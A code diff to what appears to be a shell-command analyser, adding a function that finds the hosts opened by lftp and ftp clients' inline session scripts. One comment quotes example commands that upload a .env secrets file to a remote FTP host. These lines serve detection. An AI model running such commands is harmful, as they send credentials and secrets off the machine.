@@ -81,8 +81,33 @@ def broker_fed(cmd: Command, detail: str) -> Iterator[Effect]:
             yield Effect("network", target, detail=detail, origin="send", via=cmd.via, content=f"@{f}")
 
 
+#: Where an inline session script connects (`lftp -c 'open ftp.example.com; put .env'`, `put .env -o ftp://h/`).
+_SCRIPT_HOST = lazyre.compile(r"(?i)(?:^|[;\n]\s*)open\s+(?:-\S+\s+)*([\w.-]+)|\b[a-z][a-z0-9+.-]*://[^\s;'\"]+")
+
+
+def script_hosts(cmd: Command) -> list[str]:
+    """Hosts or URLs the `-c`/`-e` session script of a transfer client opens (lftp, tftp, ftp clients)."""
+    words = [w.value for w in cmd.argv[1:]]
+    out: list[str] = []
+    for i, w in enumerate(words[:-1]):
+        if w in ("-c", "-e"):
+            for m in _SCRIPT_HOST.finditer(words[i + 1][:4000]):
+                h = m.group(1) or m.group(0)
+                if h not in out:
+                    out.append(h)
+    return out[:4]
+
+
 def fed(cmd: Command, hosts: list[str], detail: str) -> Iterator[Effect]:
+    """What a network client is fed (stdin, a heredoc, `put FILE` of its session script), sent to `hosts` and to
+    the hosts its inline session script opens (those are yielded as fetches too)."""
     if cmd.name in REMOTE_SHELLS:
+        return
+    for h in script_hosts(cmd):
+        if h not in hosts:
+            hosts = [*hosts, h]
+            yield Effect("network", h, detail=detail, origin="fetch", via=cmd.via)
+    if not hosts:
         return
     files: list[str] = []
     for r in cmd.redirects:
